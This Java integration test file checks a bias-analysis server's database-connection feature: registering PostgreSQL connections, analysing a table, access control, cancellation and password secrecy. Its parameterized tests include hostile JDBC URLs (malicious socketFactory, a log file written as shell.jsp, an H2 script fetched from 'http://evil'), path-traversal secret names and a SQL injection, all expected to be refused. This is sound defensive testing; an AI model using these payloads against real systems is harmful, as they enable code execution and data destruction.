package org.probity.tests;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.UUID;
import java.util.concurrent.locks.LockSupport;
import java.util.function.BooleanSupplier;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.probity.tests.Caller.Answer;

/// A real PostgreSQL is registered with the server, and a table of it is analysed without a row of it leaving.
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ConnectionIT {

    private static final String SECRET = "it-secret";
    private static final Map<String, Object> PLAN = Map.of(
            "label",
            "y",
            "prediction",
            "p",
            "positiveValue",
            "1",
            "favourableValue",
            "1",
            "groupings",
            List.of(List.of("sex"), List.of("sex", "area")),
            "minimumGroupSize",
            30,
            "examination",
            Map.of("score", "s", "parts", List.of("GAPS", "SUBGROUPS")));

    private Optional<PostgresCluster> cluster = Optional.empty();
    private String version = "";

    private final Caller alex = Caller.signedIn("alex");
    private final Caller david = Caller.signedIn("david");
    private final Caller ada = Caller.signedIn("ada");

    @TempDir
    Path folder;

    @BeforeAll
    void startCluster() throws IOException {
        Optional<Path> programs = PostgresCluster.installed();
        assumeTrue(programs.isPresent(), "no PostgreSQL is installed");
        cluster = Optional.of(PostgresCluster.start(programs.get()));
        Loans.insert(cluster.get());
        secret(SECRET, cluster.get().password() + "\n");
        version = "model-versions/" + ModelVersions.evaluatedOn("sex,y,p\na,1,1\nb,0,1\n");
    }

    @AfterAll
    void stopCluster() {
        for (JsonNode one : alex.get("connections").body()) {
            String read = "\"%d\"".formatted(one.path("version").asInt());
            alex.send("DELETE", "connections/" + one.path("id").asText(), "", Map.of("If-Match", read));
        }
        cluster.ifPresent(PostgresCluster::stop);
    }

    @Test
    void aTableIsAnalysedAndAnOutsiderMakesTheRecordAgainToTheLastByte() throws IOException, InterruptedException {
        String name = registered();

        Answer analysis = david.analyse(version, about(name, "credit.loans"));

        byte[] record =
                ada.file("analyses/" + analysis.id() + "/bias-report.json").body();
        Path kept = Files.write(folder.resolve("record.json"), record);
        JsonNode dataset = Caller.JSON.readTree(record).at("/provenance/dataset");
        assertThat(analysis.body().path("state").asText())
                .as(analysis.body().toString())
                .isEqualTo("DONE");
        assertThat(dataset.path("table").asText()).isEqualTo("credit.loans");
        assertThat(dataset.path("connection").asText()).isEqualTo(name);
        assertThat(dataset.path("rows").asInt()).isEqualTo(Loans.ROWS);
        assertThat(analysis.body().at("/report/datasetDigest").asText())
                .isEqualTo(dataset.path("cells").asText())
                .matches("cells:sha256:[0-9a-f]{64}");
        assertThat(analysis.body().at("/plan/table/table").asText()).isEqualTo("credit.loans");
        assertThat(OfficeFiles.text(ada.file("analyses/" + analysis.id() + "/bias-report.docx")
                        .body()))
                .contains("credit.loans", name);
        assertThat(again(name, kept)).startsWith("EQUAL");
        assertNoSecret(new String(record, StandardCharsets.UTF_8));
        assertNoSecret(analysis.body().toString());
        assertNoSecret(ada.text("audit-log/export"));
    }

    private String again(String name, Path kept) throws IOException, InterruptedException {
        Path connections = Files.writeString(folder.resolve("connections.yaml"), """
            %s:
              dialect: postgresql
              url: %s
              user: %s
              password_file: password
            """.formatted(
                        name, cluster.orElseThrow().url(), PostgresCluster.USER));
        Files.writeString(folder.resolve("password"), cluster.orElseThrow().password());
        return CommandLine.said(
                "bias",
                "credit.loans",
                "--engine",
                "jdbc:" + name,
                "--connections",
                connections.toString(),
                "--reproduce",
                kept.toString());
    }

    @Test
    void theFormOffersTablesAndColumnsAndNothingElseOfAConnection() {
        String name = registered();

        Answer sources = david.get("table-sources");
        Answer tables = david.get("table-sources/" + name + "/tables");
        Answer table = david.get("table-sources/" + name + "/table?table=credit.loans");
        Answer missing = david.get("table-sources/" + name + "/table?table=credit.nothing");

        assertThat(sources.body())
                .anySatisfy(source -> assertThat(source.toString())
                        .isEqualTo("{\"name\":\"%s\",\"title\":\"PostgreSQL\"}".formatted(name)));
        assertThat(tables.body().path("tables").toString()).contains("\"credit.loans\"");
        assertThat(table.body().path("columns")).hasSize(7);
        assertThat(missing.status()).isEqualTo(422);
        assertThat(missing.body().at("/errors/0/field").asText()).isEqualTo("table");
        assertThat(david.get("table-sources/no-such-one/tables").status()).isEqualTo(404);
        assertNoSecret(sources.body().toString() + tables.body() + table.body());
    }

    @Test
    void aConnectionIsChangedTestedAndRemovedByItsVersionAndEachIsLogged() {
        Answer fresh = alex.post("connections", connection(name()));
        String path = "connections/" + fresh.id();
        String read = fresh.response().headers().firstValue("ETag").orElseThrow();
        Map<String, Object> changed =
                new HashMap<>(connection(fresh.body().path("name").asText()));
        changed.put("schema", "credit");

        assertThat(alex.send("PUT", path, changed, Map.of()).status()).isEqualTo(428);
        Answer put = alex.put(path, changed, read);
        String now = put.response().headers().firstValue("ETag").orElseThrow();
        assertThat(put.body().path("schema").asText()).isEqualTo("credit");
        assertThat(alex.put(path, changed, read).status()).isEqualTo(412);
        changed.put("name", "another-name");
        assertThat(alex.put(path, changed, now).body().at("/errors/0/field").asText())
                .isEqualTo("name");

        Answer tested = alex.post(path + "/test", "");
        assertThat(tested.body().path("engine").asText()).startsWith("PostgreSQL 1");
        assertThat(tested.body().path("tables").asInt()).isPositive();
        assertThat(alex.send("DELETE", path, "", Map.of("If-Match", read)).status())
                .isEqualTo(412);
        assertThat(alex.send("DELETE", path, "", Map.of("If-Match", now)).status())
                .isEqualTo(204);
        assertThat(alex.get(path).status()).isEqualTo(404);

        String log = ada.text("audit-log/export");
        assertThat(log.lines().filter(line -> line.contains(fresh.id())))
                .extracting(
                        line -> Caller.JSON.readTree(line).findValue("action").asText())
                .containsExactly(
                        "connection.registered", "connection.changed", "connection.tested", "connection.removed");
        assertThat(log).contains("\"answer\":\"PostgreSQL 1");
        assertNoSecret(log + fresh.body() + put.body() + tested.body());
    }

    @Test
    void thePasswordIsInNoTableOfTheServer() throws IOException {
        registered();

        if (SharedServer.onPostgres()) {
            String dump = SharedServer.postgres()
                    .orElseThrow()
                    .sql("SELECT query_to_xml('SELECT * FROM database_connection', true, false, '')");
            assertThat(dump).contains(SECRET);
            assertNoSecret(dump);
        } else {
            String file = Files.readString(
                    SharedServer.server().data().resolve("probity.mv.db"), StandardCharsets.ISO_8859_1);
            assertThat(file).contains(SECRET);
            assertNoSecret(file);
        }
    }

    @Test
    void aTestSaysWhyADatabaseDoesNotAnswer() throws IOException {
        secret("wrong-secret", "not the password");
        Map<String, Object> wrong = new HashMap<>(connection(name()));
        wrong.put("secret", "wrong-secret");
        Map<String, Object> away = new HashMap<>(connection(name()));
        away.put("url", "jdbc:postgresql://127.0.0.1:1/postgres");

        assertThat(problem(wrong))
                .contains("it refused the user or the password")
                .doesNotContain("not the password");
        assertThat(problem(away)).contains("nobody answers at its address").doesNotContain("127.0.0.1");
    }

    private String problem(Map<String, Object> connection) {
        Answer fresh = alex.post("connections", connection);
        Answer tested = alex.post("connections/" + fresh.id() + "/test", "");
        assertThat(tested.status()).isEqualTo(200);
        assertThat(tested.body().path("reached").asBoolean()).isFalse();
        return tested.body().path("problem").asText();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://db/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
                "jdbc:postgresql://db/x?sslfactory=evil.Factory",
                "jdbc:postgresql://db/x?loggerLevel=TRACE&loggerFile=/tmp/shell.jsp",
                "jdbc:postgresql://db/x?authenticationPluginClassName=evil.Plugin",
                "jdbc:postgresql://db/x?user=root&password=known",
                "jdbc:postgresql://root:known@db/x",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:trino://lake:8080?dnsResolver=evil.Resolver"
            })
    void anAddressThatCouldDoMoreThanLeadToADatabaseIsRefused(String url) {
        Map<String, Object> hostile = new HashMap<>(connection(name()));
        hostile.put("url", url);

        Answer refused = alex.post("connections", hostile);

        assertThat(refused.status()).isEqualTo(422);
        assertThat(refused.body().at("/errors/0/field").asText()).isEqualTo("url");
    }

    @ParameterizedTest(name = "{0} is {1}")
    @CsvSource({
        "name, Ware House, name",
        "name, ../warehouse, name",
        "dialect, DUCKDB, dialect",
        "user, ' ', user",
        "secret, ../keys/checkpoint, secret",
        "secret, it-secret/../x, secret",
        "secret, no-such-file, secret",
        "timeoutSeconds, 0, timeoutSeconds",
        "password, known, password"
    })
    void aWrongFieldIsNamed(String field, String value, String named) {
        Map<String, Object> wrong = new HashMap<>(connection(name()));
        wrong.put(field, field.equals("timeoutSeconds") ? Integer.valueOf(value) : value);

        Answer refused = alex.post("connections", wrong);

        assertThat(refused.status()).isIn(400, 422);
        assertThat(refused.body().at("/errors/0/field").asText()).isEqualTo(named);
    }

    @ParameterizedTest
    @ValueSource(strings = {"olivia", "david", "vera", "boris", "ada"})
    void nobodyElseSeesOrChangesConnections(String username) {
        String id = alex.post("connections", connection(name())).id();
        Caller other = Caller.signedIn(username);

        assertThat(List.of(
                        other.get("connections"),
                        other.get("connections/" + id),
                        other.post("connections", connection(name())),
                        other.put("connections/" + id, connection(name()), "\"0\""),
                        other.send("DELETE", "connections/" + id, "", Map.of("If-Match", "\"0\"")),
                        other.post("connections/" + id + "/test", "")))
                .extracting(Answer::status)
                .containsOnly(403);
        assertThat(Caller.anonymous().get("connections").status()).isEqualTo(401);
        assertThat(alex.get("connections/" + UUID.randomUUID()).status()).isEqualTo(404);
    }

    @ParameterizedTest(name = "{0} is {1}: {2}")
    @CsvSource({
        "table, credit.nothing, table",
        "table, loans; DROP TABLE credit.loans, table",
        "connection, no-such-one, connection",
        "label, nowhere, label",
        "parts, DATA, parts",
        "features, area, features"
    })
    void aWishThatDoesNotFitTheTableNamesItsField(String field, String value, String named) {
        String name = registered();
        Map<String, Object> wish = new HashMap<>(
                about(field.equals("connection") ? value : name, field.equals("table") ? value : "credit.loans"));
        if (field.equals("label")) {
            wish.put("label", value);
        } else if (field.equals("parts")) {
            wish.put("examination", Map.of("parts", List.of(value)));
        } else if (field.equals("features")) {
            wish.put("examination", Map.of("parts", List.of("SUBGROUPS"), "features", List.of(value)));
        }

        Answer refused = david.post(version + "/analyses", wish);

        assertThat(refused.status()).as(refused.body().toString()).isEqualTo(422);
        assertThat(refused.body().at("/errors/0/field").asText()).isEqualTo(named);
        assertThat(cluster.orElseThrow().sql("SELECT count(*) FROM credit.loans"))
                .isEqualTo("" + Loans.ROWS);
    }

    @Test
    void aCountThatTakesLongIsCancelledInTheDatabaseToo() {
        String name = registered();
        cluster.orElseThrow().sql("""
            CREATE OR REPLACE VIEW credit.endless AS SELECT 'a' AS sex, 'b' AS area, '1' AS y, '1' AS p, 0.5 AS s
            FROM generate_series(1, 1000000) a, generate_series(1, 1000000) b\
            """);
        String analysis = "analyses/"
                + david.post(version + "/analyses", about(name, "credit.endless"))
                        .id();
        await(() -> active() > 0);

        Answer cancelled = david.post(analysis + "/cancel", "");

        assertThat(cancelled.body().path("state").asText()).isEqualTo("CANCELLED");
        await(() -> active() == 0);
        assertThat(david.get(analysis).body().path("state").asText()).isEqualTo("CANCELLED");
    }

    private int active() {
        return Integer.parseInt(cluster.orElseThrow().sql("""
            SELECT count(*) FROM pg_stat_activity
            WHERE state = 'active' AND query LIKE '%endless%' AND pid <> pg_backend_pid()\
            """));
    }

    private static void await(BooleanSupplier condition) {
        long deadline = System.nanoTime() + 60_000_000_000L;
        while (!condition.getAsBoolean()) {
            assertThat(System.nanoTime()).isLessThan(deadline);
            LockSupport.parkNanos(200_000_000L);
        }
    }

    private String registered() {
        String name = name();
        Answer answer = alex.post("connections", connection(name));
        assertThat(answer.status()).as(answer.body().toString()).isEqualTo(201);
        return name;
    }

    private static String name() {
        return "it-" + UUID.randomUUID().toString().substring(0, 8);
    }

    private Map<String, Object> connection(String name) {
        return Map.of(
                "name",
                name,
                "dialect",
                "POSTGRESQL",
                "url",
                cluster.orElseThrow().url(),
                "user",
                PostgresCluster.USER,
                "secret",
                SECRET,
                "timeoutSeconds",
                120);
    }

    private static Map<String, Object> about(String connection, String table) {
        Map<String, Object> plan = new HashMap<>(PLAN);
        plan.put("table", Map.of("connection", connection, "table", table));
        return plan;
    }

    private static void secret(String name, String content) throws IOException {
        Path secrets = Files.createDirectories(SharedServer.server().data().resolve("secrets"));
        Files.writeString(secrets.resolve(name), content);
    }

    private void assertNoSecret(String text) {
        assertThat(text).isNotEmpty().doesNotContain(cluster.orElseThrow().password());
    }
}
